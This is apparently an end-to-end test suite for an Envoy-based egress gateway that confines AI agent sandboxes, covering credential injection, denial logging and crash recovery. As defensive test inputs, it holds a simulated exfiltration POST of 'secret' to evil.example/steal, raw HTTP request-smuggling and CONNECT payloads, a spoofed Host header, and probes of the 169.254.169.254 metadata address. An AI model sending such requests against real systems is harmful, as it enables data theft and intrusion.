import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { request, type IncomingMessage } from 'node:http';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { AsyncQueue, contentRevision, exited, readyReport, READY_STDIO, run, silentLogger, spawnChild, stopChild, systemClock } from '#lib';
import { rotateAccessLogs } from '../../src/egress/access-logs.ts';
import { createAuthority, loadSigner } from '#lib/x509';
import { layout, type AccessLine, type AiRoute, type EgressDesired, type EgressLine, type EgressReport, type PolicySet } from '#model';
import { createSandboxNetwork, type SandboxNetwork } from '../../src/sandbox/sandbox-network.ts';
import { Claims, connect, createRpcServer, Desired, type Implementation } from '#wire';
import { createLab } from '../../src/supervisor/lab.ts';
import type { SeenRequest } from '../fixtures/openai/server.ts';
import { eventually } from './harness.ts';
import { processes } from './support/leftovers.ts';
import { createPlace, UIDS, type TestPlace } from './support/place.ts';
import type { Step, StepAnswer } from './support/sandbox-client.ts';

/**
 * Worker, egress, front and Envoy as they are, in a namespace beside the provider fixture; the test is controller-manager, and
 * a namespace of its own stands in for a sandbox.
 */

const APP = join(import.meta.dirname, '..', '..');
const TOOLS = process.env['CLRK_TOOLS'] ?? join(process.env['CLRK_DIR'] ?? join(homedir(), '.clrk'), 'tools');
const KEY = `sk-${randomUUID()}`;
const GATEWAY = 'default/gw';
const OPENAI = 'api.openai.com';
const BLOCK = '100.64.0.0/20';
const PAIR = { block: BLOCK, host: '100.64.0.4', sandbox: '100.64.0.5', inherited: false };
const CHAT = JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'Say hello.' }], max_tokens: 16 });

const JSON_BODY = { 'content-type': 'application/json' };

const resources = new AsyncDisposableStack();
let state: string;
let runDir: string;
let place: TestPlace;
let at: ReturnType<ReturnType<typeof layout>['worker']>;
let provider: string;
let rootPem: string;
let authority: { certPem: string; keyPem: string };
let intermediate: { certPem: string; keyPem: string };
let sandbox: SandboxNetwork;
let trustBundle: string;
const desired = new Set<AsyncQueue<ReturnType<typeof toMessage>>>();
let wanted: EgressDesired = { gateways: [] };
let report: EgressReport | undefined;

const toMessage = ({ gateways }: EgressDesired) => ({ gateways: gateways.map((gateway) => ({ ...gateway, credentials: [...gateway.credentials] })) });

const route: AiRoute = {
  route: { namespace: 'default', name: 'llm' },
  createdAt: 1,
  listeners: ['tls'],
  rules: [{ index: 0, matches: [{ provider: 'openai' }], budgets: [], notBuilt: [] }],
  credential: { policy: 'default/key', credential: 'cred:default/key', header: 'authorization' },
  hosts: [OPENAI],
};

const policyOf = (change: Partial<PolicySet> = {}): PolicySet => {
  const content = {
    gateway: { namespace: 'default', name: 'gw' },
    defaultPolicy: 'deny-all' as const,
    listeners: [{ name: 'tls', shape: 'tls-terminate' as const }],
    requestTimeoutMs: 10_000,
    lookupFamily: 'V4Preferred' as const,
    hostAliases: [{ ip: '10.213.0.2', hostnames: [OPENAI] }],
    trustBundle,
    aiRoutes: [route],
    l4Routes: [],
    claims: [],
    ...change,
  };
  return { ...content, revision: contentRevision(content) };
};

/** Puts a policy in force, as a controller would, and waits until Envoy has it. */
const enforce = async (policy: PolicySet, key = KEY): Promise<void> => {
  wanted = {
    gateways: [
      {
        gateway: GATEWAY,
        policySet: JSON.stringify(policy),
        rootPem,
        intermediatePem: intermediate.certPem,
        intermediateKeyPem: intermediate.keyPem,
        credentials: [
          { name: 'cred:default/key', value: `Bearer ${key}` },
          { name: 'cred:default/other', value: 'Bearer other' },
        ],
      },
    ],
  };
  for (const queue of desired) queue.push(toMessage(wanted));
  await eventually(`revision ${policy.revision} in force`, () => (report?.gateways[0]?.revision === policy.revision ? true : undefined));
};

const inSandbox = async (step: Step, network = sandbox): Promise<StepAnswer> => {
  const { stdout } = await run(process.execPath, [join(APP, 'test/e2e/support/sandbox-client.ts'), JSON.stringify(step)], { netns: network.netns });
  return JSON.parse(stdout) as StepAnswer;
};

const addressOf = async (name: string): Promise<string> => {
  const { addresses, error } = await inSandbox({ do: 'dns', name, type: 'A' });
  expect(error).toBeUndefined();
  expect(addresses).toHaveLength(1);
  return addresses![0]!;
};

const seen = async (): Promise<readonly SeenRequest[]> =>
  (await readFile(join(provider, 'seen.jsonl'), 'utf8').catch(() => ''))
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as SeenRequest);

const linesOf = async <Line>(path: string): Promise<readonly Line[]> =>
  (await readFile(path, 'utf8').catch(() => ''))
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line);

const pidOf = async (commandLine: string): Promise<number> => (await processes()).findLast(({ argv }) => argv.join(' ').includes(commandLine))!.pid;
const egressPid = (): Promise<number> => pidOf(`src/cmd/egress.ts --state ${place.state}`);

const askOnce = (address: string): Promise<StepAnswer> =>
  inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions', headers: JSON_BODY, body: CHAT, ca: rootPem });

/** The access line of the decision an answer names. */
const lineOf = (id: string): Promise<AccessLine> =>
  eventually(`access line ${id}`, async () => (await linesOf<AccessLine>(at.accessLog(0))).find((line) => line.id === id));

const denialOf = ({ body }: StepAnswer) => (JSON.parse(body!) as { error: Record<string, string> }).error;

const startProvider = async (netns: string): Promise<void> => {
  const argv = [join(APP, 'test/fixtures/openai/main.ts'), '--listen', '10.213.0.2:443', '--dir', provider, '--api-key', KEY];
  const child = spawnChild(process.execPath, argv, { netns, stdio: ['ignore', 'pipe', 'inherit'] });
  resources.defer(async () => void (await stopChild(child)));
  await once(createInterface({ input: child.stdout! }), 'line');
};

const startWorker = async (netns: string): Promise<void> => {
  const argv = ['--state', place.state, '--run', runDir, '--tools', place.tools, '--name', '0', '--pool', 'default/default', '--uids', String(UIDS)];
  const child = place.start('worker', argv, { netns, stdio: READY_STDIO, env: { ...process.env, CLRK_LOG_LEVEL: 'info' } });
  let log = '';
  for (const stream of [child.stdout!, child.stderr!]) stream.on('data', (chunk: Buffer) => (log += chunk.toString()));
  resources.defer(async () => {
    await stopChild(child);
    if (process.env['CLRK_TEST_LOG']) console.error(log);
    expect(log).not.toContain(KEY);
  });
  await Promise.race([readyReport(child), exited(child).then(() => Promise.reject(new Error(`the worker ended:\n${log}`)))]);
};

beforeAll(async () => {
  state = await mkdtemp(join(tmpdir(), 'clrk-e2e-'));
  resources.defer(() => rm(state, { recursive: true, force: true }));
  runDir = await mkdtemp('/run/clrk-e2e-');
  resources.defer(() => rm(runDir, { recursive: true, force: true }));
  at = layout(state, runDir).worker('0');
  place = resources.use(await createPlace(runDir, { state, tools: TOOLS }));
  provider = join(state, 'provider');
  await mkdir(provider);
  const lab = resources.use(await createLab(join(runDir, 'lab')));

  const valid = { notBefore: new Date(Date.now() - 3_600_000), notAfter: new Date(Date.now() + 86_400_000) };
  authority = await createAuthority({ subject: 'CN=root', ca: { pathLength: 1 }, ...valid });
  rootPem = authority.certPem;
  intermediate = await (await loadSigner(authority)).issue({ subject: 'CN=intermediate', ca: { pathLength: 0 }, ...valid });

  const controller: Implementation<typeof Desired> = {
    async *workers() {},
    async *worker() {
      yield { revisions: [], gateways: [] };
      await new Promise(() => {});
    },
    async *egress(reports, { signal }) {
      const queue = new AsyncQueue<ReturnType<typeof toMessage>>();
      desired.add(queue);
      signal.addEventListener('abort', () => (desired.delete(queue), queue.end()));
      void (async () => {
        for await (const next of reports) report = next;
      })();
      if (wanted.gateways.length > 0) queue.push(toMessage(wanted));
      yield* queue;
    },
  };
  for (const socket of [layout(state, runDir).desiredSocket, layout(state, runDir).desiredEgressSocket])
    await resources.use(createRpcServer().add(Desired, controller)).listen(socket);

  await startProvider(lab.fixture);
  trustBundle = await readFile(join(provider, 'ca.pem'), 'utf8');
  await startWorker(lab.stack);
  await enforce(policyOf());
  await mkdir(join(state, 'sandbox'));
  sandbox = resources.use(await createSandboxNetwork(place.outside(at.gatewayNetns), join(state, 'sandbox'), 'sb0', PAIR));
});

afterAll(async () => {
  await resources.disposeAsync();
});

const claim = async (invocation = randomUUID()) => {
  const claims = connect(Claims, at.claimsSocket);
  try {
    const binding = { address: PAIR.sandbox, block: BLOCK, namespace: 'default', agent: 'agent', invocation, traceId: 'a'.repeat(32), spanId: 'b'.repeat(16) };
    return await claims.bind({ ...binding, gateways: [GATEWAY] });
  } finally {
    claims.close();
  }
};

test('before it is claimed a sandbox has no names, and the refusal is recorded', async () => {
  // Until the front has started, nobody answers at all.
  const answer = await eventually('DNS answers', async () => {
    const { error } = await inSandbox({ do: 'dns', name: OPENAI, type: 'A' });
    return error === 'ECONNREFUSED' ? undefined : error;
  });
  expect(answer).toBe('EREFUSED');
  const refused = (await linesOf<EgressLine>(at.egressLog)).find(({ reason }) => reason === 'NotClaimed');
  expect(refused).toMatchObject({ event: 'dns', source: PAIR.sandbox, host: OPENAI, verdict: 'Denied' });
});

test('a claim is refused for a gateway that is not in force, and granted when it is', async () => {
  expect(await claim()).toMatchObject({ refused: '' });
});

test('an admitted name: injected credential, the agent’s own removed, tokens in the record', async () => {
  const address = await addressOf(OPENAI);
  expect(address).toMatch(/^198\.18\.[0-7]\./);
  const headers = {
    authorization: 'Bearer placeholder',
    'x-api-key': 'mine',
    'content-type': 'application/json',
    'x-request-id': 'chosen-by-agent',
    'x-clrk-route': 'x',
  };
  const answer = await inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions?api=1', headers, body: CHAT, ca: rootPem });
  expect(answer).toMatchObject({ status: 200 });
  const { usage } = JSON.parse(answer.body!) as { usage: { prompt_tokens: number; completion_tokens: number } };
  const request = (await seen()).at(-1)!;
  expect(request).toMatchObject({ sni: OPENAI, method: 'POST' });
  expect(request.headers['authorization']).toBe(`Bearer ${KEY}`);
  expect(Object.keys(request.headers).filter((name) => /^x-(api-key|clrk|envoy|forwarded)/.test(name))).toEqual([]);
  const line = await eventually('the access line', async () => (await linesOf<AccessLine>(at.accessLog(0))).find(({ status }) => status === 200));
  expect(line).toMatchObject({
    chain: 'http',
    gateway: GATEWAY,
    source: PAIR.sandbox,
    destination: `${address}:443`,
    sni: OPENAI,
    host: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    route: 'AIProviderRoute/default/llm',
    revision: policyOf().revision,
    engine: { verdict: 'Allowed', model: 'gpt-4o-mini' },
    usage: { input: usage.prompt_tokens, output: usage.completion_tokens },
  });
  expect(line.id).toMatch(/^[0-9a-f-]{36}$/);
  expect(JSON.stringify(line)).not.toContain(KEY);
});

test('a streamed answer passes as it is made, and its tokens are counted', async () => {
  const address = await addressOf(OPENAI);
  const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), stream: true });
  const answer = await inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions', headers: JSON_BODY, body, ca: rootPem });
  expect(answer).toMatchObject({ status: 200, body: expect.stringContaining('data: [DONE]') });
  const line = await eventually('the access line', async () => (await linesOf<AccessLine>(at.accessLog(0))).find(({ engine }) => engine?.stream));
  expect(line.usage).toEqual({ input: expect.any(Number), output: expect.any(Number) });
  expect(line.usage!.output).toBeGreaterThan(0);
});

test('other types of an admitted name are empty', async () => {
  expect(await inSandbox({ do: 'dns', name: OPENAI, type: 'AAAA' })).toEqual({ error: 'ENODATA' });
  expect(await inSandbox({ do: 'dns', name: OPENAI, type: 'TXT' })).toEqual({ error: 'ENODATA' });
});

test('a denied name: an address of the deny slice, there 403 with the reason, and both are recorded', async () => {
  const address = await addressOf('Evil.Example.');
  expect(address).toMatch(/^198\.18\.(8|9|1[0-5])\./);
  const answer = await inSandbox({ do: 'https', address, sni: 'evil.example', method: 'POST', path: '/steal?x=1', body: 'secret', ca: rootPem });
  expect(answer.status).toBe(403);
  expect(answer.headers!['content-type']).toContain('application/json');
  const error = denialOf(answer);
  expect(error).toMatchObject({ code: 'NoRoute', gateway: GATEWAY, revision: policyOf().revision, route: '', policy: '' });
  expect(await lineOf(error['decision']!)).toMatchObject({
    chain: 'http',
    status: 403,
    reason: 'NoRoute',
    method: 'POST',
    host: 'evil.example',
    path: '/steal',
  });
  expect((await linesOf<EgressLine>(at.egressLog)).filter(({ host }) => host === 'evil.example')).toMatchObject([
    { event: 'dns', reason: 'NoRoute', gateway: GATEWAY },
  ]);
});

test('a name that was never asked for has no leaf, in either half of the slice', async () => {
  const denied = await addressOf('evil.example');
  const admitted = await addressOf(OPENAI);
  for (const address of [denied, admitted]) {
    const { error } = await inSandbox({ do: 'https', address, sni: 'other.example', path: '/', ca: rootPem });
    expect(error).toMatch(/ECONNRESET|EPROTO|ERR_SSL/);
  }
});

test('SNI and Host must agree, also in the port', async () => {
  const address = await addressOf(OPENAI);
  for (const host of ['evil.example', `${OPENAI}:8443`, `${OPENAI}@evil.example`]) {
    const before = (await seen()).length;
    const answer = await inSandbox({ do: 'https', address, sni: OPENAI, host, path: '/v1/models', ca: rootPem });
    expect([host, answer.status]).toEqual([host, host.includes('@') ? answer.status : 421]);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect((await seen()).length).toBe(before);
    if (answer.status === 421) {
      const error = denialOf(answer);
      expect(error).toMatchObject({ code: 'HostMismatch', gateway: GATEWAY, revision: policyOf().revision });
      expect(await lineOf(error['decision']!)).toMatchObject({ status: 421, host });
    }
  }
});

test('the dialled port in Host and another case of the name are the same name', async () => {
  const address = await addressOf(OPENAI);
  for (const host of [`${OPENAI}:443`, 'API.OpenAI.com', `${OPENAI}.`]) {
    const answer = await inSandbox({
      do: 'https',
      address,
      sni: OPENAI,
      host,
      method: 'POST',
      path: '/v1/chat/completions',
      headers: JSON_BODY,
      body: CHAT,
      ca: rootPem,
    });
    expect([host, answer.status]).toEqual([host, 200]);
  }
});

test('what the engine denies keeps its own words', async () => {
  const address = await addressOf(OPENAI);
  const answer = await inSandbox({ do: 'https', address, sni: OPENAI, method: 'GET', path: '/v1/models', ca: rootPem });
  const error = denialOf(answer);
  expect(answer.status).toBe(403);
  expect(error).toMatchObject({ gateway: GATEWAY, route: 'AIProviderRoute/default/llm', revision: policyOf().revision });
  expect(error['code']).not.toMatch(/BadRequest|NoRoute|UpstreamUnavailable/);
  expect(await lineOf(error['decision']!)).toMatchObject({ engine: { verdict: 'Denied', reason: error['code'] } });
});

test('methods no API uses, upgrades and smuggling get nowhere', async () => {
  const address = await addressOf(OPENAI);
  const before = (await seen()).length;
  const trace = await inSandbox({ do: 'https', address, sni: OPENAI, method: 'TRACE', path: '/', ca: rootPem });
  expect(denialOf(trace)).toMatchObject({ code: 'MethodNotAllowed' });
  const requests = [
    `GET / HTTP/1.1\r\nhost: ${OPENAI}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
    `CONNECT ${OPENAI}:443 HTTP/1.1\r\nhost: ${OPENAI}:443\r\n\r\n`,
    `POST / HTTP/1.1\r\nhost: ${OPENAI}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
    `GET / HTTP/1.1\r\nhost: ${OPENAI}\r\nbad_name: 1\r\n\r\n`,
  ];
  for (const send of requests) {
    const { received = '' } = await inSandbox({ do: 'raw', address, port: 443, sni: OPENAI, send: send.replace('\r\n\r\n', '\r\nconnection: close\r\n\r\n') });
    expect(received).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(received).toContain('"gateway":"default/gw"');
    expect(received).not.toMatch(/\/run\/|\.sock|envoy/i);
  }
  expect((await seen()).length).toBe(before);
});

test('other protocols and addresses are refused at once, and recorded', async () => {
  const address = await addressOf(OPENAI);
  for (const [to, port] of [
    [address, 443],
    [address, 22],
    ['203.0.113.9', 443],
    ['169.254.169.254', 80],
  ] as const) {
    const started = performance.now();
    const answer = await inSandbox({ do: 'raw', address: to, port, send: 'SSH-2.0-x\r\n' });
    expect(answer.received ?? '').toBe('');
    expect(performance.now() - started).toBeLessThan(4_000);
    const line = await eventually('its record', async () =>
      (await linesOf<AccessLine>(at.accessLog(0))).find(({ chain, destination }) => chain === 'refused' && destination === `${to}:${port}`),
    );
    expect(line).toMatchObject({ gateway: GATEWAY, source: PAIR.sandbox });
    expect(line.id).toMatch(/^[0-9a-f-]{36}$/);
  }
});

test('a route whose Secret is missing answers 503 with that reason and dials nothing', async () => {
  const address = await addressOf(OPENAI);
  const missing = policyOf({ aiRoutes: [{ ...route, credential: { ...route.credential!, missing: 'SecretNotFound' } }] });
  await enforce(missing);
  const before = (await seen()).length;
  const answer = await inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    headers: JSON_BODY,
    body: CHAT,
    ca: rootPem,
  });
  expect(answer.status).toBe(503);
  expect(denialOf(answer)).toMatchObject({
    code: 'SecretNotFound',
    route: 'AIProviderRoute/default/llm',
    policy: 'CredentialInjectionPolicy/default/key',
    revision: missing.revision,
  });
  expect((await seen()).length).toBe(before);
  await enforce(policyOf());
});

test('a rotated credential is used from the next request on, without a new revision', async () => {
  const address = await addressOf(OPENAI);
  await enforce(policyOf(), 'rotated');
  const ask = () => askOnce(address);
  await eventually('the new key', async () => (await ask(), (await seen()).at(-1)!.headers['authorization'] === 'Bearer rotated' ? true : undefined));
  await enforce(policyOf());
  await eventually('the old key', async () => ((await ask()).status === 200 ? true : undefined));
});

test('two routes claim a host: the one that allows the request serves it, with its own credential, whatever the agent says', async () => {
  const address = await addressOf(OPENAI);
  const only = (model: string) => [{ index: 0, matches: [{ provider: 'openai', models: [model] }], budgets: [], notBuilt: [] }];
  const other = { policy: 'default/other', credential: 'cred:default/other', header: 'authorization' };
  await enforce(
    policyOf({
      aiRoutes: [
        { ...route, rules: only('gpt-4o-mini') },
        { ...route, route: { namespace: 'default', name: 'second' }, createdAt: 2, rules: only('gpt-4o'), credential: other },
      ],
    }),
  );
  const ask = async (model: string, claimed: string) => {
    const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), model });
    const headers = { ...JSON_BODY, 'x-clrk-route': claimed };
    await inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions', headers, body, ca: rootPem });
    return (await seen()).at(-1)!.headers['authorization'];
  };
  expect(await ask('gpt-4o-mini', 'AIProviderRoute/default/second')).toBe(`Bearer ${KEY}`);
  expect(await ask('gpt-4o', 'AIProviderRoute/default/llm')).toBe('Bearer other');
  const before = (await seen()).length;
  await ask('o1', 'AIProviderRoute/default/llm');
  expect((await seen()).length).toBe(before);
  await enforce(policyOf());
});

test('an upstream that cannot prove its name, or that is not there, is a gateway error in our words', async () => {
  const address = await addressOf(OPENAI);
  const ask = () => askOnce(address);
  await enforce(policyOf({ trustBundle: '' }));
  const untrusted = await ask();
  expect([untrusted.status, denialOf(untrusted)['code']]).toEqual([502, 'UpstreamCertificateInvalid']);
  await enforce(policyOf({ hostAliases: [{ ip: '10.213.0.3', hostnames: [OPENAI] }] }));
  const unreachable = await ask();
  expect([unreachable.status, denialOf(unreachable)['code']]).toEqual([503, 'UpstreamUnavailable']);
  await enforce(policyOf({ hostAliases: [{ ip: '10.213.0.1', hostnames: [OPENAI] }] }));
  const own = await ask();
  expect([own.status, denialOf(own)['code']]).toEqual([403, 'ForbiddenAddress']);
  await enforce(policyOf());
});

test('egress frozen: AI requests and names are refused in bounded time, denials go on, and afterwards all is well', async () => {
  const address = await addressOf(OPENAI);
  const denied = await addressOf('evil.example');
  const before = (await seen()).length;
  const pid = await egressPid();
  process.kill(pid, 'SIGSTOP');
  try {
    const started = performance.now();
    const answer = await askOnce(address);
    expect([answer.status, denialOf(answer)['code']]).toEqual([503, 'EngineUnavailable']);
    expect(performance.now() - started).toBeLessThan(4_000);
    expect((await inSandbox({ do: 'https', address: denied, sni: 'evil.example', path: '/', ca: rootPem })).status).toBe(403);
    expect((await inSandbox({ do: 'dns', name: 'new.example', type: 'A' })).error).toMatch(/ESERVFAIL|ETIMEOUT/);
  } finally {
    process.kill(pid, 'SIGCONT');
  }
  expect((await seen()).length).toBe(before);
  expect((await askOnce(address)).status).toBe(200);
});

test('egress killed: Envoy goes on with warm names, and after the restart bindings, leaves and configuration are as before', async () => {
  const address = await addressOf(OPENAI);
  process.kill(await egressPid(), 'SIGKILL');
  report = undefined;
  await eventually('egress is back and its revision in force', () => (report?.gateways[0]?.revision === policyOf().revision ? true : undefined), 20_000);
  expect(await addressOf(OPENAI)).toBe(address);
  const answer = await inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    headers: JSON_BODY,
    body: CHAT,
    ca: rootPem,
  });
  expect(answer.status).toBe(200);
});

test('Envoy killed: said in the records, and it serves again with the same configuration and names', async () => {
  const address = await addressOf(OPENAI);
  process.kill(await pidOf(`${runDir}/tools/bin/envoy -c ${at.dir}`), 'SIGKILL');
  await eventually('the record', async () =>
    (await linesOf<EgressLine>(at.egressLog)).find(({ event, gateway }) => event === 'gateway-died' && gateway === GATEWAY),
  );
  await eventually('it serves again', async () => ((await askOnce(address)).status === 200 ? true : undefined));
});

test('an access log is put aside without losing a line', async () => {
  const address = await addressOf(OPENAI);
  const ids: string[] = [];
  const refused = async () => {
    const answer = await inSandbox({ do: 'https', address, sni: OPENAI, path: '/v1/models', ca: rootPem });
    ids.push(denialOf(answer)['decision']!);
  };
  await refused();
  await lineOf(ids[0]!);
  const rotation = rotateAccessLogs({ at, indexes: () => [0], clock: systemClock, log: silentLogger, rotateBytes: 1, everyMs: 200 });
  try {
    await eventually('rotation', async () => ((await readdir(at.envoyRecords(0))).some((name) => name.startsWith('access-0.jsonl.')) ? true : undefined));
    await refused();
    await refused();
  } finally {
    await rotation[Symbol.asyncDispose]();
  }
  await eventually('every line', async () => {
    const names = (await readdir(at.envoyRecords(0))).filter((name) => name.startsWith('access-0.jsonl'));
    const texts = await Promise.all(names.map((name) => readFile(join(at.envoyRecords(0), name), 'utf8')));
    return ids.every((id) => texts.join('').split(id).length === 2) ? true : undefined;
  });
});

test('no credential, private key or leaf key is in what Envoy shows of itself', async () => {
  const call = request({ socketPath: at.envoyAdmin(0), path: '/config_dump?include_eds', headers: { host: 'envoy' } }).end();
  const [answer] = (await once(call, 'response')) as [IncomingMessage];
  const dump = await text(answer);
  expect(dump.length).toBeGreaterThan(10_000);
  for (const secret of [KEY, Buffer.from(KEY).toString('base64').slice(0, 20), 'PRIVATE KEY']) expect(dump).not.toContain(secret);
});
